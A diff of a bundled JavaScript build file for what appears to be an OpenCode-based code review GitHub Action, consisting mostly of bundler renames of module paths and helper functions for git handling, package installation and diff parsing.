@@ -34721,7 +41291,7 @@ const destroyOtherStream = (stream, isOpen, error) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/readable.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/readable.js
 
 
 
@@ -34847,7 +41417,7 @@ const destroyOtherReadable = (stream, error) => {
 	destroyOtherStream(stream, stream.readable, error);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/web.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/web.js
 
 
 // Web stream versions of `subprocess.readable()`, `subprocess.writable()` and `subprocess.duplex()`.
@@ -34856,7 +41426,7 @@ const createReadableStream = (subprocess, readableOptions) => external_node_stre
 const createWritableStream = (subprocess, writableOptions) => external_node_stream_namespaceObject.Writable.toWeb(subprocess.writable(writableOptions));
 const createTransformStream = (subprocess, duplexOptions) => external_node_stream_namespaceObject.Duplex.toWeb(subprocess.duplex(duplexOptions));
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/pipe/pipe-arguments.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/pipe/pipe-arguments.js
 
 
 
@@ -34983,7 +41553,7 @@ const getSourceStream = (source, from) => {
 	}
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/pipe/throw.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/pipe/throw.js
 
 
 
@@ -35045,7 +41615,7 @@ const createNonCommandError = ({error, fileDescriptors, sourceOptions, startTime
 
 const PIPE_COMMAND_MESSAGE = 'source.pipe(destination)';
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/pipe/sequence.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/pipe/sequence.js
 // Like Bash, we await both subprocesses. This is unlike some other shells which only await the destination subprocess.
 // Like Bash with the `pipefail` option, if either subprocess fails, the whole pipe fails.
 // Like Bash, if both subprocesses fail, we return the failure of the destination.
@@ -35072,7 +41642,7 @@ const waitForBothSubprocesses = async subprocessPromises => {
 	return destinationResult;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/pipe/streaming.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/pipe/streaming.js
 
 
 
@@ -35168,7 +41738,7 @@ const SOURCE_LISTENERS_PER_PIPE = 2;
 // Those are added by `finished()` in `cleanupMergedStreamsMap()`
 const DESTINATION_LISTENERS_PER_PIPE = 1;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/pipe/abort.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/pipe/abort.js
 
 
 
@@ -35191,7 +41761,7 @@ const unpipeOnSignalAbort = async (unpipeSignal, {sourceStream, mergedStream, fi
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/pipe/setup.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/pipe/setup.js
 
 
 
@@ -35433,7 +42003,7 @@ const handlePipePromise = async ({
 // With `source.pipe(destination).pipe(secondDestination)`, the second `sourcePromise` is the first `.pipe()`, which rejects with the error of either subprocess. However, `secondDestination` is only piped from `destination`.
 const getSubprocessPromises = (sourcePromise, destination, source) => Promise.allSettled([sourcePromise, destination, source]);
 
-;// CONCATENATED MODULE: ./node_modules/get-stream/source/utils.js
+;// CONCATENATED MODULE: ../main/node_modules/get-stream/source/utils.js
 const utils_identity = value => value;
 
 const utils_noop = () => undefined;
@@ -35446,7 +42016,7 @@ const throwObjectStream = chunk => {
 
 const getLengthProperty = convertedChunk => convertedChunk.length;
 
-;// CONCATENATED MODULE: ./node_modules/get-stream/source/array.js
+;// CONCATENATED MODULE: ../main/node_modules/get-stream/source/array.js
 
 
 
@@ -35480,7 +42050,7 @@ const arrayMethods = {
 	finalize: getContentsProperty,
 };
 
-;// CONCATENATED MODULE: ./node_modules/get-stream/source/array-buffer.js
+;// CONCATENATED MODULE: ../main/node_modules/get-stream/source/array-buffer.js
 
 
 
@@ -35566,7 +42136,7 @@ const arrayBufferMethods = {
 	finalize: finalizeArrayBuffer,
 };
 
-;// CONCATENATED MODULE: ./node_modules/get-stream/source/string.js
+;// CONCATENATED MODULE: ../main/node_modules/get-stream/source/string.js
 
 
 
@@ -35604,7 +42174,7 @@ const stringMethods = {
 	finalize: getContentsProperty,
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/io/contents.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/io/contents.js
 
 
 
@@ -35719,7 +42289,7 @@ const handleBufferedData = error => isArrayBuffer(error?.bufferedData)
 	? new Uint8Array(error.bufferedData)
 	: error?.bufferedData;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/stdio.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/stdio.js
 
 
 
@@ -35769,7 +42339,7 @@ const waitForSubprocessStream = async ({stream, fdNumber, encoding, buffer, maxB
 	return output;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/all-async.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/all-async.js
 
 
 
@@ -35842,7 +42412,7 @@ const getAllMixed = ({stdout, stderr}, all) => all
 	&& stderr
 	&& stdout.readableObjectMode !== stderr.readableObjectMode;
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/verbose/ipc.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/verbose/ipc.js
 
 
 
@@ -35859,7 +42429,7 @@ const logIpcOutput = (message, verboseInfo) => {
 	});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/ipc/buffer-messages.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/ipc/buffer-messages.js
 
 
 
@@ -35918,7 +42488,7 @@ const getBufferedIpcOutput = async (ipcOutputPromise, ipcOutput) => {
 	return ipcOutput;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/resolve/wait-subprocess.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/resolve/wait-subprocess.js
 
 
 
@@ -36078,7 +42648,7 @@ const throwOnSubprocessError = async (subprocess, {signal}) => {
 	throw error;
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/writable.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/writable.js
 
 
 
@@ -36194,7 +42764,7 @@ const destroyOtherWritable = (stream, error) => {
 	destroyOtherStream(stream, stream.writable, error);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/duplex.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/duplex.js
 
 
 
@@ -36263,7 +42833,7 @@ const onDuplexDestroy = async ({subprocessStdout, subprocessStdin, subprocess, w
 	]);
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/convert/add.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/convert/add.js
 
 
 
@@ -36284,11 +42854,11 @@ const addConvertedStreams = (subprocess, {encoding}) => {
 	subprocess[Symbol.asyncIterator] = createIterable.bind(undefined, subprocess, encoding, {});
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/promise.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/promise.js
 // The return value is a native Promise with Execa-specific properties.
 const mergePromise = (promise, properties) => Object.assign(promise, properties);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/main-async.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/main-async.js
 
 
 
@@ -36535,7 +43105,7 @@ const getAsyncResult = ({errorInfo, exitCode, signal, stdio, all, ipcOutput, con
 		startTime,
 	});
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/bind.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/bind.js
 
 
 
@@ -36554,7 +43124,7 @@ const mergeOption = (optionName, boundOptionValue, optionValue) => DEEP_OPTIONS.
 
 const DEEP_OPTIONS = new Set(['env', ...FD_SPECIFIC_OPTIONS]);
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/create.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/create.js
 
 
 
@@ -36628,7 +43198,7 @@ const parseArguments = ({mapArguments, firstArgument, nextArguments, deepOptions
 	};
 };
 
-;// CONCATENATED MODULE: ./node_modules/execa/lib/methods/script.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/lib/methods/script.js
 // Sets `$.sync` and `$.s`
 const setScriptSync = (boundExeca, createNested, boundOptions) => {
 	boundExeca.sync = createNested(mapScriptSync, boundOptions);
@@ -36652,7 +43222,7 @@ const getScriptStdinOption = ({stdin = 'inherit', input, inputFile, stdio}) => i
 // However, some options (like `stdin: 'inherit'`) would create issues with piping, i.e. cannot be deep.
 const deepScriptOptions = {preferLocal: true};
 
-;// CONCATENATED MODULE: ./node_modules/execa/index.js
+;// CONCATENATED MODULE: ../main/node_modules/execa/index.js
 
 
 
@@ -36775,7 +43345,7 @@ const OPTIONS = {
 function exitOf(call, result) {
     const { exitCode, isMaxBuffer, timedOut, stdout, stderr } = result;
     if (timedOut)
-        throw new GateError('git-failed', `git ${nameOf(call)} took too long and was stopped.`);
+        throw new GateError('git-failed', `git ${git_process_nameOf(call)} took too long and was stopped.`);
     if (isMaxBuffer) {
         throw new GateError('git-failed', 'The change is too large: git described it with more than 384 MiB.');
     }
@@ -36794,7 +43364,7 @@ function git_process_bytesOf(output) {
         : Buffer.from(output.buffer, output.byteOffset, output.byteLength);
 }
 function git_process_failure(call, code, stderr) {
-    return new GateError('git-failed', `git ${nameOf(call)} failed with exit code ${code}${saidBy(stderr)}.`);
+    return new GateError('git-failed', `git ${git_process_nameOf(call)} failed with exit code ${code}${saidBy(stderr)}.`);
 }
 /** Git's own words, on one line and without credentials that an address may hold. */
 function saidBy(stderr) {
@@ -36802,7 +43372,7 @@ function saidBy(stderr) {
     const text = line.replace(/\/\/[^/@\s]*@/g, '//').replace(/\.$/, '');
     return text === '' ? '' : ` (${showPath(text.slice(0, 300))})`;
 }
-function nameOf(call) {
+function git_process_nameOf(call) {
     return call.args.find((arg) => /^[a-z][a-z-]+$/.test(arg)) ?? 'command';
 }
 
@@ -36839,7 +43409,7 @@ function openOrigin(configured, { url, token }) {
 async function fetchHistory(store, origin, ids, depth) {
     const { code } = await store.git.run({
         directory: store.objects,
-        args: [...FETCH, `--depth=${depth}`, '--filter=blob:none', REMOTE, ...new Set(ids)],
+        args: [...origin_FETCH, `--depth=${depth}`, '--filter=blob:none', REMOTE, ...new Set(ids)],
         env: origin.env,
         timeout: FETCH_TIMEOUT_MS,
     });
@@ -36849,7 +43419,7 @@ async function fetchHistory(store, origin, ids, depth) {
 async function fetchObjects(store, origin, ids) {
     const { code, stderr } = await store.git.run({
         directory: store.objects,
-        args: ['-c', 'fetch.negotiationAlgorithm=noop', ...FETCH, '--filter=blob:none', '--stdin', REMOTE],
+        args: ['-c', 'fetch.negotiationAlgorithm=noop', ...origin_FETCH, '--filter=blob:none', '--stdin', REMOTE],
         stdin: Buffer.from(`${ids.join('\n')}\n`),
         env: origin.env,
         timeout: FETCH_TIMEOUT_MS,
@@ -36873,7 +43443,7 @@ async function readTip(store, origin, ref) {
 }
 const REMOTE = 'gate';
 const FETCH_TIMEOUT_MS = 300_000;
-const FETCH = [
+const origin_FETCH = [
     'fetch',
     '--quiet',
     '--no-tags',
@@ -36907,7 +43477,7 @@ function asEnvironment(settings) {
 
 /** The commits whose parents are missing because the clone was cut there; empty for a full clone. */
 async function shallowCommits({ objects }) {
-    const text = await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.join)(objects, 'shallow'), 'latin1').catch(() => '');
+    const text = await (0,promises_namespaceObject.readFile)((0,external_node_path_.join)(objects, 'shallow'), 'latin1').catch(() => '');
     return new Set(text.split('\n').filter((line) => line !== ''));
 }
 
@@ -37004,14 +43574,14 @@ async function isPartial({ source, objects }) {
     const keys = [...source.config.keys()];
     if (keys.some((key) => key === 'extensions.partialclone' || /^remote\..+\.promisor$/s.test(key)))
         return true;
-    const packs = await (0,promises_namespaceObject.readdir)((0,external_node_path_namespaceObject.join)(objects, 'objects', 'pack')).catch(() => []);
+    const packs = await (0,promises_namespaceObject.readdir)((0,external_node_path_.join)(objects, 'objects', 'pack')).catch(() => []);
     return packs.some((name) => name.endsWith('.promisor'));
 }
 function unfetchable() {
     return new GateError('history-shallow', 'This is a partial clone whose missing files cannot be fetched. Remove `filter` from the actions/checkout step of the workflow, or use an https origin.');
 }
 
-;// CONCATENATED MODULE: ./node_modules/diff/libesm/diff/base.js
+;// CONCATENATED MODULE: ../main/node_modules/diff/libesm/diff/base.js
 class Diff {
     diff(oldStr, newStr, 
     // Type below is not accurate/complete - see above for full possibilities - but it compiles
@@ -37266,7 +43836,7 @@ class Diff {
     }
 }
 
-;// CONCATENATED MODULE: ./node_modules/diff/libesm/diff/line.js
+;// CONCATENATED MODULE: ../main/node_modules/diff/libesm/diff/line.js
 
 
 class LineDiff extends Diff {
@@ -37333,7 +43903,7 @@ function tokenize(value, options) {
     return retLines;
 }
 
-;// CONCATENATED MODULE: ./node_modules/diff/libesm/patch/create.js
+;// CONCATENATED MODULE: ../main/node_modules/diff/libesm/patch/create.js
 
 /**
  * Returns true if the filename contains characters that require C-style
@@ -37723,7 +44293,7 @@ function apply_hunks_splitLines(text) {
     return text.match(/[^\n]*\n|[^\n]+$/g) ?? [];
 }
 
-;// CONCATENATED MODULE: ./node_modules/diff/libesm/patch/parse.js
+;// CONCATENATED MODULE: ../main/node_modules/diff/libesm/patch/parse.js
 /**
  * Parses a unified diff format patch into a structured patch object.
  *
@@ -38385,9 +44955,9 @@ function markedLines(mark, text) {
  */
 function isPassiveMedia(path, start, size) {
     const extension = /\.([a-z0-9]+)$/i.exec(path)?.[1]?.toLowerCase() ?? '';
-    return KINDS.some((kind) => kind.extensions.includes(extension) && kind.matches(start, size));
+    return media_KINDS.some((kind) => kind.extensions.includes(extension) && kind.matches(start, size));
 }
-const KINDS = [
+const media_KINDS = [
     { extensions: ['png', 'apng'], matches: (start) => has(start, 0, '\x89PNG\r\n\x1a\n') },
     { extensions: ['jpg', 'jpeg', 'jfif'], matches: (start) => has(start, 0, '\xff\xd8\xff') },
     { extensions: ['gif'], matches: (start) => has(start, 0, 'GIF87a') || has(start, 0, 'GIF89a') },
@@ -38646,7 +45216,7 @@ function assembleFile(plan, blobs) {
     const hunks = readings.flatMap((reading) => reading.hunks);
     const unchanged = binary && plan.baseBlob === plan.headBlob;
     const encoding = unchanged ? encodingOf(blobs, plan.headBlob) : (readings.at(-1)?.encoding ?? 'binary');
-    const kind = kindOf(plan, encoding);
+    const kind = assemble_kindOf(plan, encoding);
     return {
         ...entry,
         kind,
@@ -38661,8 +45231,8 @@ function readPart(part, blobs) {
         return { encoding: 'utf-8', hunks: [] };
     if (!isUnclear(part))
         return { encoding: 'utf-8', hunks: part.hunks ?? [] };
-    const base = contentOf(blobs, part.baseBlob);
-    const head = contentOf(blobs, part.headBlob);
+    const base = assemble_contentOf(blobs, part.baseBlob);
+    const head = assemble_contentOf(blobs, part.headBlob);
     if (part.hunks !== null && !isWide(base) && !isWide(head))
         return { encoding: 'latin1', hunks: part.hunks };
     const reviewed = part.headBlob === null ? base : head;
@@ -38691,7 +45261,7 @@ function asLatin1({ encoding, text }) {
 function isWide(content) {
     return content?.encoding === 'utf-16le' || content?.encoding === 'utf-16be';
 }
-function kindOf(plan, encoding) {
+function assemble_kindOf(plan, encoding) {
     if (isSubmodule(plan))
         return 'submodule';
     if (encoding === 'binary')
@@ -38703,9 +45273,9 @@ function isMedia({ path, headBlob, baseBlob }, blobs) {
     return isPassiveMedia(path, start, size);
 }
 function encodingOf(blobs, id) {
-    return contentOf(blobs, id)?.encoding ?? 'binary';
+    return assemble_contentOf(blobs, id)?.encoding ?? 'binary';
 }
-function contentOf(blobs, id) {
+function assemble_contentOf(blobs, id) {
     return id === null ? null : blobOf(blobs, id).content;
 }
 function blobOf(blobs, id) {
@@ -38866,7 +45436,7 @@ const FOLDERS = ['/usr/bin', '/usr/local/bin', '/bin', '/usr/local/git/bin'];
  */
 async function findGit(folders = FOLDERS) {
     for (const folder of folders) {
-        const file = await (0,promises_namespaceObject.realpath)((0,external_node_path_namespaceObject.join)(folder, 'git')).catch(() => null);
+        const file = await (0,promises_namespaceObject.realpath)((0,external_node_path_.join)(folder, 'git')).catch(() => null);
         if (file !== null && (await belongsToRoot(file)))
             return file;
     }
@@ -38877,7 +45447,7 @@ async function belongsToRoot(file) {
     const { uid, mode } = await (0,promises_namespaceObject.stat)(file);
     if (uid !== 0 || (mode & 0o022) !== 0)
         return false;
-    const parent = (0,external_node_path_namespaceObject.dirname)(file);
+    const parent = (0,external_node_path_.dirname)(file);
     return parent === file || belongsToRoot(parent);
 }
 
@@ -38893,12 +45463,12 @@ async function findSource(directory) {
     const start = await (0,promises_namespaceObject.realpath)(directory).catch((cause) => {
         throw new GateError('repository-invalid', 'The directory of the repository does not exist.', { cause });
     });
-    const gitDirectory = (await source_isGitDirectory(start)) ? start : await nearest(start);
-    return { gitDirectory, commonDirectory: await commonOf(gitDirectory) };
+    const gitDirectory = (await source_isGitDirectory(start)) ? start : await source_nearest(start);
+    return { gitDirectory, commonDirectory: await source_commonOf(gitDirectory) };
 }
 /** Reads the configuration file without its includes. `home` is any GIT_DIR of ours. */
 async function readConfig(git, home, commonDirectory) {
-    const file = (0,external_node_path_namespaceObject.join)(commonDirectory, 'config');
+    const file = (0,external_node_path_.join)(commonDirectory, 'config');
     const { code, stdout } = await git.run({
         directory: home,
         args: ['config', '--file', file, '--no-includes', '--list', '-z'],
@@ -38908,17 +45478,17 @@ async function readConfig(git, home, commonDirectory) {
     const entries = stdout.toString('utf8').split('\0').slice(0, -1);
     return new Map(entries.map((entry) => [entry.split('\n', 1)[0] ?? '', entry.slice(entry.indexOf('\n') + 1)]));
 }
-async function nearest(start) {
+async function source_nearest(start) {
     const found = await gitDirectoryIn(start);
     if (found !== null)
         return found;
-    const parent = (0,external_node_path_namespaceObject.dirname)(start);
+    const parent = (0,external_node_path_.dirname)(start);
     if (parent === start)
         throw invalid('There is no .git in it or above it. Check out the repository first.');
-    return nearest(parent);
+    return source_nearest(parent);
 }
 async function gitDirectoryIn(directory) {
-    const place = (0,external_node_path_namespaceObject.join)(directory, '.git');
+    const place = (0,external_node_path_.join)(directory, '.git');
     const entry = await (0,promises_namespaceObject.stat)(place).catch(() => null);
     if (entry === null)
         return null;
@@ -38936,20 +45506,20 @@ async function targetOf(file) {
     const target = /^gitdir: (.+?)\n*$/.exec(text)?.[1];
     if (target === undefined)
         throw invalid('Its .git file cannot be understood.');
-    return (0,external_node_path_namespaceObject.resolve)((0,external_node_path_namespaceObject.dirname)(file), target);
+    return (0,external_node_path_.resolve)((0,external_node_path_.dirname)(file), target);
 }
 async function source_isGitDirectory(directory) {
-    const common = await commonOf(directory);
+    const common = await source_commonOf(directory);
     const [head, objects] = await Promise.all([
-        (0,promises_namespaceObject.lstat)((0,external_node_path_namespaceObject.join)(directory, 'HEAD')).catch(() => null),
-        (0,promises_namespaceObject.stat)((0,external_node_path_namespaceObject.join)(common, 'objects')).catch(() => null),
+        (0,promises_namespaceObject.lstat)((0,external_node_path_.join)(directory, 'HEAD')).catch(() => null),
+        (0,promises_namespaceObject.stat)((0,external_node_path_.join)(common, 'objects')).catch(() => null),
     ]);
     return head !== null && objects !== null && objects.isDirectory();
 }
-async function commonOf(gitDirectory) {
-    const text = await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.join)(gitDirectory, 'commondir'), 'utf8').catch(() => '');
+async function source_commonOf(gitDirectory) {
+    const text = await (0,promises_namespaceObject.readFile)((0,external_node_path_.join)(gitDirectory, 'commondir'), 'utf8').catch(() => '');
     const common = text.replace(/\n+$/, '');
-    return common === '' ? gitDirectory : (0,external_node_path_namespaceObject.resolve)(gitDirectory, common);
+    return common === '' ? gitDirectory : (0,external_node_path_.resolve)(gitDirectory, common);
 }
 function invalid(why) {
     return new GateError('repository-invalid', `This is no git repository that can be read. ${why}`);
@@ -38966,7 +45536,7 @@ function invalid(why) {
 async function openStore(directory, temporary) {
     const executable = await findGit();
     const found = await findSource(directory);
-    const home = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_namespaceObject.join)(temporary, 'review-gate-git-')).catch((cause) => {
+    const home = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_.join)(temporary, 'review-gate-git-')).catch((cause) => {
         throw new GateError('state-unwritable', 'No private directory can be made for git.', { cause });
     });
     const git = gitProcess(executable, home);
@@ -38975,13 +45545,13 @@ async function openStore(directory, temporary) {
         await (0,promises_namespaceObject.rm)(home, { recursive: true, force: true, maxRetries: 3 });
     };
     try {
-        const objects = (0,external_node_path_namespaceObject.join)(home, 'objects.git');
+        const objects = (0,external_node_path_.join)(home, 'objects.git');
         await writeGitDirectory(objects, found, '');
         const config = await readConfig(git, objects, found.commonDirectory);
         const source = { ...found, config };
         const format = config.get('extensions.objectformat') === 'sha256' ? 'sha256' : 'sha1';
         if (format === 'sha256')
-            await (0,promises_namespaceObject.writeFile)((0,external_node_path_namespaceObject.join)(objects, 'config'), renderConfig(config));
+            await (0,promises_namespaceObject.writeFile)((0,external_node_path_.join)(objects, 'config'), renderConfig(config));
         const names = await namesDirectory(home, source);
         return { git, source, objects, names, format, remove };
     }
@@ -38998,7 +45568,7 @@ async function openStore(directory, temporary) {
 async function refreshNames({ source, names }) {
     if (names === source.gitDirectory)
         return;
-    const copies = ['HEAD', 'FETCH_HEAD', 'ORIG_HEAD', 'MERGE_HEAD'].map((name) => (0,promises_namespaceObject.copyFile)((0,external_node_path_namespaceObject.join)(source.gitDirectory, name), (0,external_node_path_namespaceObject.join)(names, name)).catch(() => undefined));
+    const copies = ['HEAD', 'FETCH_HEAD', 'ORIG_HEAD', 'MERGE_HEAD'].map((name) => (0,promises_namespaceObject.copyFile)((0,external_node_path_.join)(source.gitDirectory, name), (0,external_node_path_.join)(names, name)).catch(() => undefined));
     await Promise.all(copies);
 }
 /**
@@ -39010,27 +45580,27 @@ async function refreshNames({ source, names }) {
 async function namesDirectory(home, source) {
     if (source.config.get('extensions.refstorage') === 'reftable')
         return source.gitDirectory;
-    const names = (0,external_node_path_namespaceObject.join)(home, 'names.git');
+    const names = (0,external_node_path_.join)(home, 'names.git');
     await writeGitDirectory(names, source, renderConfig(source.config));
-    await (0,promises_namespaceObject.rm)((0,external_node_path_namespaceObject.join)(names, 'refs'), { recursive: true });
+    await (0,promises_namespaceObject.rm)((0,external_node_path_.join)(names, 'refs'), { recursive: true });
     // A further working tree keeps the log of its HEAD elsewhere; the shared one is about another HEAD.
     const isMain = source.gitDirectory === source.commonDirectory;
-    const links = ['refs', 'packed-refs', ...(isMain ? ['logs'] : [])].map((name) => (0,promises_namespaceObject.symlink)((0,external_node_path_namespaceObject.join)(source.commonDirectory, name), (0,external_node_path_namespaceObject.join)(names, name)));
+    const links = ['refs', 'packed-refs', ...(isMain ? ['logs'] : [])].map((name) => (0,promises_namespaceObject.symlink)((0,external_node_path_.join)(source.commonDirectory, name), (0,external_node_path_.join)(names, name)));
     await Promise.all(links);
     await refreshNames({ source, names });
     return names;
 }
 async function writeGitDirectory(directory, source, config) {
-    await Promise.all(['objects/info', 'refs', 'info'].map((name) => (0,promises_namespaceObject.mkdir)((0,external_node_path_namespaceObject.join)(directory, name), { recursive: true, mode: 0o700 })));
-    const shallow = await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.join)(source.commonDirectory, 'shallow')).catch(() => null);
+    await Promise.all(['objects/info', 'refs', 'info'].map((name) => (0,promises_namespaceObject.mkdir)((0,external_node_path_.join)(directory, name), { recursive: true, mode: 0o700 })));
+    const shallow = await (0,promises_namespaceObject.readFile)((0,external_node_path_.join)(source.commonDirectory, 'shallow')).catch(() => null);
     const files = {
         HEAD: 'ref: refs/heads/none\n',
         config: config || PLAIN_CONFIG,
-        'objects/info/alternates': `${quoted((0,external_node_path_namespaceObject.join)(source.commonDirectory, 'objects'))}\n`,
+        'objects/info/alternates': `${store_quoted((0,external_node_path_.join)(source.commonDirectory, 'objects'))}\n`,
         'info/attributes': NO_ATTRIBUTES,
         ...(shallow && { shallow }),
     };
-    await Promise.all(Object.entries(files).map(([name, text]) => (0,promises_namespaceObject.writeFile)((0,external_node_path_namespaceObject.join)(directory, name), text)));
+    await Promise.all(Object.entries(files).map(([name, text]) => (0,promises_namespaceObject.writeFile)((0,external_node_path_.join)(directory, name), text)));
 }
 const PLAIN_CONFIG = '[core]\n\trepositoryformatversion = 0\n\tbare = true\n';
 /** This file of the git directory wins over every .gitattributes of the tree, wherever a version of git reads those. */
@@ -39059,13 +45629,13 @@ function renderConfig(config) {
             : [];
         if (section === undefined || name === undefined || /[\n\0]/.test(name + value))
             return [];
-        return [`[${section} ${quoted(name)}]\n\t${setting} = ${quoted(value)}\n`];
+        return [`[${section} ${store_quoted(name)}]\n\t${setting} = ${store_quoted(value)}\n`];
     });
     const format = config.get('extensions.objectformat') === 'sha256';
     const core = `[core]\n\trepositoryformatversion = ${format ? 1 : 0}\n\tbare = true\n`;
     return [core, format ? '[extensions]\n\tobjectformat = sha256\n' : '', ...sections].join('');
 }
-function quoted(text) {
+function store_quoted(text) {
     return `"${text.replace(/[\\"]/g, '\\$&').replaceAll('\n', '\\n').replaceAll('\t', '\\t')}"`;
 }
 
@@ -39301,20 +45871,20 @@ const INSTALL_MS = 5 * 60_000;
  * fills a directory of its own, and the first one to finish keeps the name. Throws GateError `opencode-missing`.
  */
 async function installPins(pins, request) {
-    const place = (0,external_node_path_namespaceObject.join)(request.cache, install_opencode_nameOf(pins));
+    const place = (0,external_node_path_.join)(request.cache, install_opencode_nameOf(pins));
     if (await exists(place))
-        return (0,external_node_path_namespaceObject.join)(place, 'node_modules');
+        return (0,external_node_path_.join)(place, 'node_modules');
     const work = await makeDirectory(request.cache);
     try {
-        await (0,promises_namespaceObject.writeFile)((0,external_node_path_namespaceObject.join)(work, 'package.json'), renderManifest(pins));
-        await (0,promises_namespaceObject.writeFile)((0,external_node_path_namespaceObject.join)(work, 'package-lock.json'), renderLock(pins));
+        await (0,promises_namespaceObject.writeFile)((0,external_node_path_.join)(work, 'package.json'), renderManifest(pins));
+        await (0,promises_namespaceObject.writeFile)((0,external_node_path_.join)(work, 'package-lock.json'), renderLock(pins));
         await runNpm(work, request);
         await keep(work, place);
     }
     finally {
         await (0,promises_namespaceObject.rm)(work, { recursive: true, force: true });
     }
-    return (0,external_node_path_namespaceObject.join)(place, 'node_modules');
+    return (0,external_node_path_.join)(place, 'node_modules');
 }
 /** Another version, another integrity or another set of packages has another name. */
 function install_opencode_nameOf(pins) {
@@ -39324,7 +45894,7 @@ function install_opencode_nameOf(pins) {
 async function makeDirectory(cache) {
     try {
         await (0,promises_namespaceObject.mkdir)(cache, { recursive: true });
-        return await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_namespaceObject.join)(cache, 'installing-'));
+        return await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_.join)(cache, 'installing-'));
     }
     catch (cause) {
         throw new GateError('opencode-missing', 'OpenCode could not be installed: the cache directory cannot be written. Make it writable, or set opencode-path.', { cause });
@@ -39443,8 +46013,8 @@ async function findOpencode(request) {
     if (pins === undefined)
         throw noPin();
     const directory = await findPackages(request, [pins.opencode, pins.ripgrep]);
-    const opencode = (0,external_node_path_namespaceObject.join)(directory, pins.opencode.package, pins.opencode.file);
-    const ripgrep = (0,external_node_path_namespaceObject.join)(directory, pins.ripgrep.package, pins.ripgrep.file);
+    const opencode = (0,external_node_path_.join)(directory, pins.opencode.package, pins.opencode.file);
+    const ripgrep = (0,external_node_path_.join)(directory, pins.ripgrep.package, pins.ripgrep.file);
     return checking({ opencode, ripgrep }, Promise.all([
         checkPin(opencode, pins.opencode, request.signal),
         checkPin(ripgrep, pins.ripgrep, request.signal),
@@ -39452,8 +46022,8 @@ async function findOpencode(request) {
 }
 /** `$RUNNER_TOOL_CACHE` on a runner, else the user's cache directory. */
 function cacheDirectory(env) {
-    const base = env['RUNNER_TOOL_CACHE'] || env['XDG_CACHE_HOME'] || (0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.homedir)(), '.cache');
-    return (0,external_node_path_namespaceObject.join)(base, 'opencode-review-gate');
+    const base = env['RUNNER_TOOL_CACHE'] || env['XDG_CACHE_HOME'] || (0,external_node_path_.join)((0,external_node_os_namespaceObject.homedir)(), '.cache');
+    return (0,external_node_path_.join)(base, 'opencode-review-gate');
 }
 async function findExplicit(request, pins) {
     const { explicit, signal } = request;
@@ -39471,7 +46041,7 @@ async function findExplicit(request, pins) {
 async function findRipgrep(request, pins) {
     if (pins !== undefined) {
         const directory = await findPackages(request, [pins.ripgrep]);
-        const path = (0,external_node_path_namespaceObject.join)(directory, pins.ripgrep.package, pins.ripgrep.file);
+        const path = (0,external_node_path_.join)(directory, pins.ripgrep.package, pins.ripgrep.file);
         await checkPin(path, pins.ripgrep, request.signal);
         return path;
     }
@@ -39482,8 +46052,8 @@ async function findRipgrep(request, pins) {
 }
 /** The first `node_modules` that has all of these packages; installed when there is none. */
 async function findPackages(request, pins) {
-    const beside = (0,external_node_path_namespaceObject.join)(request.dist, '..', 'node_modules');
-    const files = pins.map((pin) => (0,external_node_path_namespaceObject.join)(beside, pin.package, pin.file));
+    const beside = (0,external_node_path_.join)(request.dist, '..', 'node_modules');
+    const files = pins.map((pin) => (0,external_node_path_.join)(beside, pin.package, pin.file));
     if ((await Promise.all(files.map(find_opencode_isExecutable))).every(Boolean))
         return beside;
     const cache = request.cache ?? cacheDirectory(request.env);
@@ -39504,7 +46074,7 @@ function checking(paths, checked) {
 }
